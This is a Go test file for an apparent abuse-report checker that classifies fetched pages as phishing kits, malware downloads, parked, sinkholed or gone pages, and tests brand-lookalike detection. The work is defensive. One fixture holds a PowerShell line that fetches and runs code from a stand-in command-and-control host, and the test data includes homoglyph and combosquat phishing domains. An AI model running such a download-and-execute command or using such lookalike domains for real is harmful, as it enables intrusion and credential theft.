package judge

import (
	"encoding/json"
	"net/netip"
	"slices"
	"strings"
	"testing"

	"bailiwick/abuse"
	"bailiwick/evidence"
	"bailiwick/name"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func one(f evidence.Fetch) evidence.Look { return evidence.Look{At: t0, Fetches: []evidence.Fetch{f}} }

func TestSeePages(t *testing.T) {
	const v = "plain"
	phish := func(brand string) Claim { return Claim{Type: abuse.Phishing, Brand: brand} }
	mal := Claim{Type: abuse.Malware}
	exe := "MZ" + strings.Repeat("\x00\x90", 64)
	home := func(f evidence.Fetch, title string) evidence.Look {
		l := one(f)
		l.Home = []evidence.Fetch{got("https://"+f.URL.Host()+"/", v, 200, shop(title, 60))}
		return l
	}
	for _, c := range []struct {
		name  string
		claim Claim
		look  evidence.Look
		shows Shows
		cause Cause
	}{
		// The claimed thing.
		{"kit on a combosquat", phish("Acme Bank"), one(got("https://acmebank-login.shop/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit without words of a lure", phish("Acme Bank"), one(got("https://acmebank-login.shop/", v, 200, kit("plain", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit, brand not claimed but known", phish(""), one(got("https://qz7x1k.top/a/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit, brand claimed otherwise", phish("Parcelo"), one(got("https://qz7x1k.top/a/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit on a broken-into shop", phish("Acme Bank"), home(got("https://rosa-flowers.example/wp-content/x/", v, 200, kit("en", "Acme Bank")), "Rosa Flowers"), ShowsAbuse, CauseImitates},
		{"kit of an unlisted brand", phish("Umbra Credit Union"), one(got("https://umbra-verify.shop/login", v, 200, kit("plain", "Umbra Credit Union"))), ShowsAbuse, CauseImitates},
		{"kit behind a 404", phish("Acme Bank"), one(got("https://acmebank-login.shop/", v, 404, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit that quotes a suspension", phish("Acme Bank"), one(got("https://acmebank-login.shop/", v, 200, html("Acme Bank - account suspended", "This website account has been suspended by the administrator. Verify your account."+kit("en", "Acme Bank")))), ShowsAbuse, CauseImitates},
		{"homoglyph host", phish("Acme Bank"), one(got("https://аcmebank.shop/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"digits for letters", phish("Parcelo"), one(got("https://parce1o.shop/", v, 200, cardKit("Parcelo"))), ShowsAbuse, CauseImitates},
		{"brand in front of the domain", phish("Acme Bank"), one(got("https://acmebank.example.secure.qz7x1k.top/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"exact name under another ending, with a lure", phish("Acme Bank"), one(got("https://acmebank.shop/", v, 200, kit("en", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"general lure", phish(""), one(got("https://qz7x1k.top/owa/", v, 200, html("Webmail", "Your mailbox is full. Verify your mailbox to keep receiving mail."+kit("", "")))), ShowsAbuse, CauseLure},
		{"platform customer", phish("Acme Bank"), one(got("https://acme-login.pages.example/", v, 200, kit("plain", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"kit at an address", phish("Acme Bank"), one(got("http://192.0.2.10/acmebank/", v, 200, kit("plain", "Acme Bank"))), ShowsAbuse, CauseImitates},
		{"program", mal, one(sent("https://dl.example/a.exe", "https://dl.example/a.exe", v, 200, "application/octet-stream", exe)), ShowsAbuse, CauseProgram},
		{"program after a redirect", mal, one(sent("https://go.example/x", "https://dl.example/a", v, 200, "application/octet-stream", exe)), ShowsAbuse, CauseProgram},
		{"script by its ending", mal, one(sent("https://dl.example/run.ps1", "https://dl.example/run.ps1", v, 200, "text/plain", "iex (irm https://c2.example)")), ShowsAbuse, CauseProgram},

		// Not it.
		{"the brand's own sign-in", phish("Acme Bank"), one(got("https://www.acmebank.example/login", v, 200, kit("plain", "Acme Bank"))), ShowsOther, CauseBrandOwn},
		{"a shop's own sign-in with others' buttons", phish("Acme Bank"), one(got("https://bluebikes.example/login", v, 200, ownLogin("Blue Bikes - Log in", "Welcome back to Blue Bikes"))), ShowsOther, CauseOwnName},
		{"a blog about phishing", phish("Acme Bank"), one(got("https://safer-web.example/acme-bank-phishing", v, 200, blog())), ShowsOther, CauseNoMark},
		{"a shop", phish("Acme Bank"), one(got("https://rosa-flowers.example/", v, 200, shop("Rosa Flowers", 60))), ShowsOther, CauseNoMark},
		{"a page, malware claimed", mal, one(got("https://rosa-flowers.example/", v, 200, shop("Rosa Flowers", 60))), ShowsOther, CauseNoMark},
		{"sent on to the brand", phish("Acme Bank"), one(sent("https://acmebank-login.shop/", "https://www.acmebank.example/", v, 200, "text/html", kit("plain", "Acme Bank"))), ShowsOther, CauseBrandSends},

		// For a person.
		{"sign-in that names nobody", phish("Acme Bank"), one(got("https://app.nimbus24.example/", v, 200, html("Sign in", fmtPassword()))), ShowsUnclear, CauseNobody},
		{"own name, claimed as a brand", phish("Blue Bikes"), one(got("https://bluebikes.example/login", v, 200, ownLogin("Blue Bikes - Log in", "Blue Bikes sign in"))), ShowsUnclear, CauseWeak},
		{"own name with a plain word, claimed as a brand", phish("Blue Bikes"), one(got("https://bluebikes-online.example/login", v, 200, ownLogin("Blue Bikes - Log in", "Blue Bikes sign in"))), ShowsUnclear, CauseWeak},
		{"front page goes by the claimed name", phish("Blue Bikes"), home(got("https://bb24.example/login", v, 200, ownLogin("Blue Bikes - Log in", "Blue Bikes sign in")), "Blue Bikes, the shop"), ShowsUnclear, CauseWeak},
		{"exact name without a lure: perhaps its own", phish("Acme Bank"), one(got("https://acmebank.test/login", v, 200, kit("plain", "Acme Bank"))), ShowsUnclear, CauseWeak},
		{"own installation of a program", phish("Zimbra"), one(got("https://mail.cedar-college.example/zimbra", v, 200, kit("plain", "Zimbra"))), ShowsUnclear, CauseWeak},
		{"imitates and asks nothing yet", phish("Acme Bank"), one(got("https://acmebank-login.shop/", v, 200, html("Acme Bank", "Welcome"))), ShowsUnclear, CauseWeak},
		{"own name, and words that kits use too", phish("Acme Bank"), one(got("https://bluebikes.example/login", v, 200, html("Blue Bikes", "<h1>Blue Bikes</h1><p>Verify your account. Pay from your account at Acme Bank.</p>"+fmtPassword()))), ShowsUnclear, CauseWeak},
		{"a brand as a way to pay, in the title", phish("Acme Bank"), one(got("https://till24.example/", v, 200, html("Pay with Acme Bank", "<p>Verify your account.</p>"+fmtPassword()))), ShowsUnclear, CauseNobody},
		{"links to programs", mal, one(got("https://dl.example/", v, 200, html("Tools", "<a href=setup.exe>Get it</a>"))), ShowsUnclear, CauseWeak},
		{"a web script", mal, one(sent("https://cdn.example/lib.js", "https://cdn.example/lib.js", v, 200, "text/javascript", "var a=1;")), ShowsUnclear, CauseByPerson},
		{"program on a brand's own domain", mal, one(sent("https://dl.acmebank.example/app.exe", "https://dl.acmebank.example/app.exe", v, 200, "application/octet-stream", exe)), ShowsUnclear, CauseBrandOwn},
		{"fraud", Claim{Type: abuse.Fraud}, one(got("https://rosa-flowers.example/", v, 200, shop("Rosa Flowers", 60))), ShowsUnclear, CauseByPerson},
		{"botnet", Claim{Type: abuse.Botnet}, one(got("https://rosa-flowers.example/", v, 200, "ok")), ShowsUnclear, CauseByPerson},

		// Nothing there.
		{"404", phish(""), one(got("https://x.example/a", v, 404, html("Not found", "not found"))), ShowsGone, CauseStatus},
		{"410", phish(""), one(got("https://x.example/a", v, 410, "")), ShowsGone, CauseStatus},
		{"403", phish(""), one(got("https://x.example/a", v, 403, html("Forbidden", "Forbidden"))), ShowsGone, CauseForbidden},
		{"empty", phish(""), one(got("https://x.example/a", v, 200, "")), ShowsGone, CauseEmpty},
		{"503", phish(""), one(got("https://x.example/a", v, 503, "busy")), ShowsNothing, CauseServerFault},
		{"no such name", phish(""), one(failed("https://x.example/a", v, "nxdomain")), ShowsGone, CauseNoName},
		{"refused", phish(""), one(failed("https://x.example/a", v, "refused")), ShowsGone, CauseRefused},
		{"time-out", phish(""), one(failed("https://x.example/a", v, "timeout")), ShowsNothing, CauseTimeout},
		{"reset", phish(""), one(failed("https://x.example/a", v, "reset")), ShowsNothing, CauseFault},
		{"TLS", phish(""), one(failed("https://x.example/a", v, "tls")), ShowsNothing, CauseFault},
		{"not a public address", phish(""), one(failed("https://x.example/a", v, "blocked")), ShowsGone, CauseNoAddress},
		{"DNS failed, not known why", phish(""), one(failed("https://x.example/a", v, "dns")), ShowsNothing, CauseTimeout},
	} {
		t.Run(c.name, func(t *testing.T) {
			s := See(c.claim, c.look, world())
			if len(s.Views) != 1 {
				t.Fatalf("%d views", len(s.Views))
			}
			if got := s.Views[0]; got.Shows != c.shows || got.Cause != c.cause {
				t.Errorf("shows %s (%s): %s; want %s (%s)", got.Shows, got.Cause, got.Reason, c.shows, c.cause)
			}
			if (c.shows == ShowsUnclear) != (s.Doubt != "") && c.cause != CauseBrandSends {
				t.Errorf("doubt %q for %s", s.Doubt, c.shows)
			}
			if s.Claimed != (c.shows == ShowsAbuse) {
				t.Errorf("claimed %v", s.Claimed)
			}
		})
	}
}

func fmtPassword() string {
	return `<form action="/session" method=post><input name=user><input type=password name=p></form>`
}

func TestSeeLanguages(t *testing.T) {
	for _, lang := range []string{"en", "fr", "de", "es", "pt", "zh", "ja", "ru", "ar"} {
		for _, brand := range []string{"Acme Bank", "Umbra Credit Union"} {
			s := See(Claim{Type: abuse.Phishing, Brand: brand}, one(got("https://qz7x1k.top/k/", "plain", 200, kit(lang, brand))), world())
			if !s.Claimed || s.Brand != brand {
				t.Errorf("%s, %s: %+v", lang, brand, s.Views[0])
			}
		}
	}
	for lang, want := range map[string]string{"ru": "Акме Банк", "ja": "アクメ銀行"} {
		s := See(Claim{Type: abuse.Phishing}, one(got("https://qz7x1k.top/k/", "plain", 200, kit(lang, want))), world())
		if !s.Claimed || s.Brand != "Acme Bank" {
			t.Errorf("%s in its own script: %+v", want, s.Views[0])
		}
	}
}

func TestSeeNotices(t *testing.T) {
	look := func(body string) Sight {
		return See(Claim{Type: abuse.Phishing, Brand: "Acme Bank"}, one(got("https://acmebank-login.shop/a", "plain", 200, body)), world())
	}
	for _, n := range notices {
		v := look(n.body).Views[0]
		want := ShowsGone
		if n.kind == Warning {
			want = ShowsWarned
		}
		if v.Shows != want || v.Notice != n.kind {
			t.Errorf("%s %s (%s), want %s %s:\n%s", v.Shows, v.Notice, v.Reason, want, n.kind, n.body)
		}
	}
	if v := look(notices[9].body).Views[0]; v.By != "platform" || v.Party != "platform:bungalow" {
		t.Errorf("a configured notice names its party: %+v", v)
	}
	for _, p := range parkings {
		if v := look(p).Views[0]; v.Shows != ShowsParked {
			t.Errorf("%s (%s), want parked:\n%s", v.Shows, v.Reason, p)
		}
	}
	for _, p := range defaults {
		if v := look(p).Views[0]; v.Shows != ShowsGone || v.Cause != CauseDefault {
			t.Errorf("%s %s, want the default page:\n%s", v.Shows, v.Cause, p)
		}
	}
	// Pages that use the same words and are none of these.
	for _, p := range []string{
		shop("Rosa Flowers", 80),
		blog(),
		html("Terms", "<p>"+strings.Repeat("We may close an account for abuse. ", 40)+"</p>"),
		html("Rosa", "<p>This item is no longer available. See our privacy policy and the delivery page.</p><a href=/a>a</a>"),
		html("Hosting", "<p>Your hosting account was suspended by the administrator. Verify your account at the desk.</p>"),
		html("Acme Bank", "<p>Your account has been suspended. Verify your account.</p><form action=x><input name=email></form>"),
	} {
		if v := look(p).Views[0]; v.Notice != "" || v.Shows == ShowsParked || v.Shows == ShowsGone {
			t.Errorf("%s %s (%s):\n%s", v.Shows, v.Notice, v.Reason, p)
		}
	}
}

func TestSeeDNS(t *testing.T) {
	see := func(change func(*evidence.DNS), f evidence.Fetch) View {
		z := zone("x.example")
		change(z)
		return See(Claim{Type: abuse.Phishing}, evidence.Look{At: t0, DNS: z, Fetches: []evidence.Fetch{f}}, world()).Views[0]
	}
	dns := failed("https://x.example/a", "plain", "dns")
	for _, c := range []struct {
		name   string
		change func(*evidence.DNS)
		fetch  evidence.Fetch
		shows  Shows
		cause  Cause
	}{
		{"the registry's NXDOMAIN", func(z *evidence.DNS) { z.Delegation = evidence.Answer{RCode: "NXDOMAIN"}; z.A = evidence.Answer{} }, dns, ShowsGone, CauseNoName},
		{"delegated to nobody", func(z *evidence.DNS) { z.Delegation.Values = nil }, dns, ShowsGone, CauseNoName},
		{"servers refuse", func(z *evidence.DNS) { z.A = evidence.Answer{RCode: "REFUSED"} }, dns, ShowsGone, CauseDNSRefuses},
		{"servers are lame", func(z *evidence.DNS) { z.A = evidence.Answer{Err: "lame"} }, dns, ShowsGone, CauseDNSRefuses},
		{"no address", func(z *evidence.DNS) { z.A = evidence.Answer{RCode: "NOERROR"} }, dns, ShowsGone, CauseNoAddress},
		{"servers time out", func(z *evidence.DNS) { z.A = evidence.Answer{Err: "timeout"} }, dns, ShowsNothing, CauseTimeout},
		{"sinkhole by address", func(*evidence.DNS) {}, sinkholed(), ShowsSinkholed, CauseSinkhole},
		{"sinkhole by name servers", func(z *evidence.DNS) { z.Delegation.Values = []string{"a.sinkhole.example", "b.sinkhole.example."} }, failed("https://x.example/a", "plain", "refused"), ShowsSinkholed, CauseSinkhole},
		{"one stray server is no sinkhole", func(z *evidence.DNS) { z.Delegation.Values = []string{"a.sinkhole.example", "ns1.dns-one.example"} }, failed("https://x.example/a", "plain", "refused"), ShowsGone, CauseRefused},
		{"parking by name servers", func(z *evidence.DNS) { z.Delegation.Values = []string{"ns1.parking.example"} }, got("https://x.example/a", "plain", 200, shop("Ads", 20)), ShowsParked, CauseParking},
	} {
		if v := see(c.change, c.fetch); v.Shows != c.shows || v.Cause != c.cause {
			t.Errorf("%s: %s (%s): %s", c.name, v.Shows, v.Cause, v.Reason)
		}
	}
}

func sinkholed() evidence.Fetch {
	f := got("https://x.example/a", "plain", 200, html("x", "x"))
	f.Hops[0].Addr = netip.MustParseAddr("203.0.113.200")
	return f
}

func TestSeeVantagePoints(t *testing.T) {
	const url = "https://acmebank-login.shop/"
	look := evidence.Look{At: t0, Fetches: []evidence.Fetch{
		got(url, "plain", 404, ""), got(url, "mobile", 200, kit("en", "Acme Bank")), failed(url, "far", "timeout"), got(url, "desk", 200, shop("Rosa", 60)),
	}}
	s := See(claim(abuse.Phishing, "Acme Bank", url), look, world())
	if !s.Live || !s.Claimed || !cmp.Equal(s.SeenFrom, []string{"mobile"}) || !cmp.Equal(s.NotSeenFrom, []string{"desk", "plain"}) {
		t.Errorf("%+v", s)
	}
	if !s.MovedTo.IsZero() {
		t.Errorf("moved to %s", s.MovedTo)
	}
	s = See(claim(abuse.Phishing, "Acme Bank", url), one(sent(url, "https://acmebank-sso.top/k/", "plain", 200, "text/html", kit("en", "Acme Bank"))), world())
	if s.MovedTo.String() != "https://acmebank-sso.top/k/" {
		t.Errorf("moved to %q", s.MovedTo)
	}
	if s := See(Claim{Type: abuse.CSAM}, look, world()); len(s.Views) != 0 || s.Doubt == "" {
		t.Errorf("never looked at: %+v", s)
	}
}

func TestSeeFront(t *testing.T) {
	const url = "https://rosa-flowers.example/k/"
	page := kit("en", "Acme Bank")
	home := func(f evidence.Fetch) evidence.Look {
		l := one(got(url, "plain", 200, page))
		l.Home = []evidence.Fetch{f}
		return l
	}
	const root = "https://rosa-flowers.example/"
	for _, c := range []struct {
		look  evidence.Look
		want  Front
		named bool
	}{
		{home(got(root, "plain", 200, page)), FrontKit, false},
		{home(got(root, "plain", 200, strings.Replace(page, "24 hours", "12 hours", 1))), FrontKit, false},
		{home(sent(root, url, "plain", 200, "text/html", page)), FrontSends, false},
		{home(sent(root, "https://www.acmebank.example/", "plain", 200, "text/html", shop("Acme Bank", 60))), FrontBrand, false},
		{home(got(root, "plain", 200, shop("Rosa Flowers", 60))), FrontContent, true},
		{home(got(root, "plain", 200, shop("Fiori", 60))), FrontContent, false},
		{home(got(root, "plain", 200, html("Hi", "hello there"))), FrontThin, false},
		{home(got(root, "plain", 200, html("Rosa", "Coming soon"))), FrontPlaceholder, false},
		{home(got(root, "plain", 200, defaults[0])), FrontDefault, false},
		{home(got(root, "plain", 404, "")), FrontEmpty, false},
		{home(got(root, "plain", 200, parkings[0])), FrontParked, false},
		{home(got(root, "plain", 200, notices[0].body)), FrontNotice, false},
		{home(failed(root, "plain", "timeout")), FrontUnknown, false},
		{one(got(url, "plain", 200, page)), FrontUnknown, false},
		{one(got(root, "plain", 200, page)), FrontKit, false},
	} {
		s := See(Claim{Type: abuse.Phishing, Brand: "Acme Bank"}, c.look, world())
		if s.Front != c.want || s.FrontNamed != c.named {
			t.Errorf("front %q named %v, want %q %v: %v", s.Front, s.FrontNamed, c.want, c.named, c.look.Home)
		}
	}
}

// A Sight goes into a case event and comes back whole, and stays small.
func TestSightJSON(t *testing.T) {
	var look evidence.Look
	look.At, look.DNS = t0, zone("acmebank-login.shop")
	for _, v := range []string{"plain", "mobile", "desk", "far", "crawler"} {
		look.Fetches = append(look.Fetches, sent("https://acmebank-login.shop/a", "https://acmebank-login.shop/b?x=1", v, 200, "text/html", kit("en", "Acme Bank")))
	}
	s := See(Claim{Type: abuse.Phishing, Brand: "Acme Bank"}, look, world())
	b, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	if len(b) > 6<<10 {
		t.Errorf("%d octets for five vantage points", len(b))
	}
	t.Logf("%d octets for five vantage points", len(b))
	var back Sight
	if err := json.Unmarshal(b, &back); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(s, back, cmpopts.EquateComparable(name.URL{}, netip.Addr{})); diff != "" {
		t.Error(diff)
	}
}

func TestResemble(t *testing.T) {
	ready := Known{Brands: []Brand{{Name: "Acme Bank", Words: []string{"acmebank"}}, {Name: "Apple"}, {Name: "ING"}}}.Ready().ready
	acme, apple, ing := ready[0], ready[1], ready[2]
	for _, c := range []struct {
		label string
		b     *brand
		want  likeness
	}{
		{"acmebank", acme, exact}, {"acme-bank", acme, exact}, {"acmebank-login", acme, similar}, {"loginacmebank", acme, similar}, {"acmebank24", acme, plain}, {"myacmebank", acme, plain},
		{"acrnebank", acme, similar}, {"acmebamk", acme, similar}, {"acmebnak", acme, similar}, {"аcmebank", acme, similar}, {"acm3bank", acme, similar}, {"acme-secure", acme, similar}, {"a-c-m-e-b-a-n-k", acme, similar},
		{"acme", acme, unlike}, {"acmetools", acme, unlike}, {"bank", acme, unlike}, {"secure-bank", acme, unlike},
		{"pineapple", apple, unlike}, {"applepie", apple, unlike}, {"apple-support", apple, similar}, {"app1e", apple, similar}, {"grapple", apple, unlike}, {"snapple", apple, unlike}, {"apple", apple, exact},
		{"shipping", ing, unlike}, {"ing-login", ing, similar}, {"mybanking", ing, unlike}, {"ing", ing, exact},
	} {
		if got := resemble(c.label, c.b); got != c.want {
			t.Errorf("%s as %s: %d, want %d", c.label, c.b.name, got, c.want)
		}
	}
}

func TestFold(t *testing.T) {
	for in, want := range map[string]string{"  Vérifiez\u00a0 votre\tcompte ": "verifiez votre compte", "Раура\u200bl": "paypal", "ＡＣＭＥ": "acme", "Straße": "strasse", "I\u0130ı": "iii", "": "", "\x00\x01": ""} {
		if got := fold(in); got != want {
			t.Errorf("fold(%q) = %q, want %q", in, got, want)
		}
	}
	if clean("a\x1b[31m\u202eb", 80) != "a[31mb" || clean("ééé", 3) != "é…" {
		t.Error("clean", clean("a\x1b[31m\u202eb", 80), clean("ééé", 3))
	}
	for _, c := range []struct {
		a, b  string
		limit int
		want  bool
	}{{"acmebank", "acmebank", 0, true}, {"acmebank", "acmebnak", 1, true}, {"acmebank", "cmebank", 1, true}, {"acmebank", "acmebxxk", 1, false}, {"acmebank", "acmebxxk", 2, true}, {"", "ab", 1, false}, {"a", "", 1, true}} {
		if near(c.a, c.b, c.limit) != c.want {
			t.Errorf("near(%q, %q, %d)", c.a, c.b, c.limit)
		}
	}
	if !slices.Contains(beside, "with") {
		t.Error("beside")
	}
}
